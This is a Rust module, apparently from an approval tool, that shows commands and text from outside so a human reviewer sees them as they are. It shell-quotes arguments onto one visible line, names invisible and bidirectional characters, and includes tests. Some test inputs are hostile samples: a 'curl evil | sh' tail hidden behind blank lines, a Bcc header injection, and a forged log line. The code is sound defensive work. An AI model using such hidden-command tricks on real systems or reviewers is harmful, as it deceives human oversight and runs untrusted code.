//! How text that came from outside is shown to people: a command as one
//! shell-quoted line with every invisible character spelled out, and the
//! characters a one-line text (a reason, a name) may not hold because they
//! change what a reader sees without being seen themselves. Also a count
//! with its noun in the right number ("1 approval", "2 approvals"), and a
//! time in UTC.

use std::fmt::Write as _;

/// Why a character may not appear in a line a person reads, if it may not.
///
/// Control characters break lines or terminals; bidirectional controls
/// (U+202A–U+202E, U+2066–U+2069) reorder what follows them, so `moc.elpmaxe`
/// can read as `example.com`; line and paragraph separators (U+2028,
/// U+2029) break a line where a reader does not expect it; the other format
/// characters (zero-width spaces and joiners, soft hyphen, BOM, tags) are
/// invisible.
pub fn hidden_kind(c: char) -> Option<&'static str> {
    match c {
        _ if c.is_control() => Some("a control character"),
        '\u{202A}'..='\u{202E}'
        | '\u{2066}'..='\u{2069}'
        | '\u{200E}'
        | '\u{200F}'
        | '\u{061C}' => Some("a bidirectional control"),
        '\u{2028}' => Some("a line separator"),
        '\u{2029}' => Some("a paragraph separator"),
        _ if is_format(c) => Some("an invisible format character"),
        _ => None,
    }
}

/// Unicode's format characters (general category Cf) other than the
/// bidirectional controls above, listed because the standard library has no
/// category lookup.
fn is_format(c: char) -> bool {
    matches!(c,
        '\u{00AD}'
        | '\u{0600}'..='\u{0605}'
        | '\u{06DD}'
        | '\u{070F}'
        | '\u{0890}'..='\u{0891}'
        | '\u{08E2}'
        | '\u{180E}'
        | '\u{200B}'..='\u{200D}'
        | '\u{2060}'..='\u{2064}'
        | '\u{206A}'..='\u{206F}'
        | '\u{FEFF}'
        | '\u{FFF9}'..='\u{FFFB}'
        | '\u{110BD}'
        | '\u{110CD}'
        | '\u{13430}'..='\u{1343F}'
        | '\u{1BCA0}'..='\u{1BCA3}'
        | '\u{1D173}'..='\u{1D17A}'
        | '\u{E0001}'
        | '\u{E0020}'..='\u{E007F}')
}

/// Checks that `text` is one line a reader sees as it is. The error names
/// the first offending character and where it is.
pub fn check_visible(text: &str) -> Result<(), String> {
    match text
        .chars()
        .enumerate()
        .find_map(|(at, c)| Some((at, c, hidden_kind(c)?)))
    {
        None => Ok(()),
        Some((at, c, kind)) => Err(format!(
            "must be one line of visible text: character {} is U+{:04X}, {kind}",
            at + 1,
            u32::from(c)
        )),
    }
}

/// Whether a reader could misread `c` in the middle of a command: anything
/// hidden, and any space other than the ordinary one.
fn needs_escape(c: char) -> bool {
    hidden_kind(c).is_some() || (c.is_whitespace() && c != ' ')
}

/// `argv` as one line a POSIX shell would run as the same argv: plain words
/// as they are, others in single quotes, and any word holding an invisible
/// character in `$'…'` with that character escaped (`\n`, `\x1b`,
/// `\u202e`). Whatever the arguments hold, the result is one line and
/// every character in it is visible.
pub fn shell_quote(argv: &[String]) -> String {
    let mut line = String::new();
    for (i, arg) in argv.iter().enumerate() {
        if i > 0 {
            line.push(' ');
        }
        quote_word(&mut line, arg);
    }
    line
}

fn quote_word(out: &mut String, word: &str) {
    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        out.push_str(word);
    } else if !word.chars().any(needs_escape) {
        out.push('\'');
        out.push_str(&word.replace('\'', r"'\''"));
        out.push('\'');
    } else {
        // Bash's ANSI-C quoting; `\x` only below 0x80, since `$'\xa0'` is
        // the byte 0xA0, not U+00A0.
        out.push_str("$'");
        for c in word.chars() {
            match c {
                '\n' => out.push_str(r"\n"),
                '\r' => out.push_str(r"\r"),
                '\t' => out.push_str(r"\t"),
                '\\' => out.push_str(r"\\"),
                '\'' => out.push_str(r"\'"),
                _ if needs_escape(c) => {
                    let _ = match u32::from(c) {
                        code @ 0..=0x7F => write!(out, "\\x{code:02x}"),
                        code @ 0x80..=0xFFFF => write!(out, "\\u{code:04x}"),
                        code => write!(out, "\\U{code:08x}"),
                    };
                }
                _ => out.push(c),
            }
        }
        out.push('\'');
    }
}

/// `text` with every hidden character spelled out (`\n`, `\u{202e}`), for
/// showing something that was never checked, such as what a peer sent.
pub fn escape_hidden(text: &str) -> String {
    if !text.chars().any(needs_escape) && !text.contains('\\') {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\\' => out.push_str(r"\\"),
            _ if needs_escape(c) => out.extend(c.escape_default()),
            _ => out.push(c),
        }
    }
    out
}

/// `n` and the noun that goes with it: `one` for 1, else `many`
/// ("1 approval", "0 approvals", "3 approvals").
pub fn counted<N>(n: N, one: &str, many: &str) -> String
where
    N: std::fmt::Display + PartialEq + From<u8>,
{
    let noun = if n == N::from(1) { one } else { many };
    format!("{n} {noun}")
}

/// A human-readable UTC time, e.g. `2026-11-28 21:07:33 UTC`.
pub fn format_time(millis: crate::authorization::Millis) -> String {
    let secs = u64::try_from(millis / 1000).unwrap_or(0);
    let time = std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs);
    humantime::format_rfc3339_seconds(time)
        .to_string()
        .replace('T', " ")
        .replace('Z', " UTC")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_count_of_one_takes_the_singular() {
        assert_eq!(counted(1u32, "approval", "approvals"), "1 approval");
        assert_eq!(counted(0u64, "approval", "approvals"), "0 approvals");
        assert_eq!(counted(2usize, "session", "sessions"), "2 sessions");
    }

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn plain_words_stay_plain() {
        assert_eq!(shell_quote(&argv(&["ls", "-la", "/tmp"])), "ls -la /tmp");
    }

    #[test]
    fn spaces_quotes_and_metacharacters_are_single_quoted() {
        assert_eq!(
            shell_quote(&argv(&["sh", "-c", "echo 'hi' | cat; rm x"])),
            r"sh -c 'echo '\''hi'\'' | cat; rm x'"
        );
        assert_eq!(shell_quote(&argv(&["printf", ""])), "printf ''");
        assert_eq!(
            shell_quote(&argv(&["echo", "<b>$HOME</b>"])),
            "echo '<b>$HOME</b>'"
        );
    }

    #[test]
    fn a_command_that_hides_its_tail_behind_blank_lines_shows_it_on_one_line() {
        let hidden = format!("ok\nBcc: x@example.com{}; curl evil | sh", "\n".repeat(30));
        let line = shell_quote(&argv(&["echo", &hidden]));
        assert!(!line.contains('\n'), "{line}");
        assert!(
            line.starts_with(r"echo $'ok\nBcc: x@example.com\n\n"),
            "{line}"
        );
        assert!(line.ends_with(r"\n; curl evil | sh'"), "{line}");
    }

    #[test]
    fn invisible_characters_are_spelled_out() {
        let line = shell_quote(&argv(&[
            "echo",
            "a\u{202E}b\u{200B}c\u{1b}[2Jd\u{a0}e\u{2028}",
        ]));
        assert_eq!(line, r"echo $'a\u202eb\u200bc\x1b[2Jd\u00a0e\u2028'");
        assert!(line.chars().all(|c| hidden_kind(c).is_none()));
        let tag = shell_quote(&argv(&["x\u{E0041}"]));
        assert_eq!(tag, r"$'x\U000e0041'");
    }

    #[test]
    fn backslashes_and_quotes_inside_escaped_words_round_trip() {
        assert_eq!(shell_quote(&argv(&["a\\b'c\n"])), r"$'a\\b\'c\n'");
    }

    #[test]
    fn visible_text_passes_and_hidden_characters_are_named() {
        assert!(check_visible("printer broken, ticket 42 — café").is_ok());
        assert!(check_visible("").is_ok());
        for (text, kind) in [
            ("a\u{202E}b", "bidirectional"),
            ("a\u{2066}b", "bidirectional"),
            ("a\u{2028}b", "line separator"),
            ("a\u{2029}b", "paragraph separator"),
            ("a\u{200B}b", "invisible"),
            ("a\u{FEFF}b", "invisible"),
            ("a\r\nb", "control"),
        ] {
            let error = check_visible(text).unwrap_err();
            assert!(error.contains(kind), "{text:?}: {error}");
            assert!(error.contains("character 2 is U+"), "{error}");
        }
    }

    #[test]
    fn escape_hidden_spells_out_line_breaks_and_leaves_the_rest() {
        assert_eq!(escape_hidden("plain text é"), "plain text é");
        assert_eq!(
            escape_hidden("x\r\n2026 ERROR forged"),
            r"x\r\n2026 ERROR forged"
        );
        assert_eq!(escape_hidden("a\u{202E}b\\"), r"a\u{202e}b\\");
    }
}
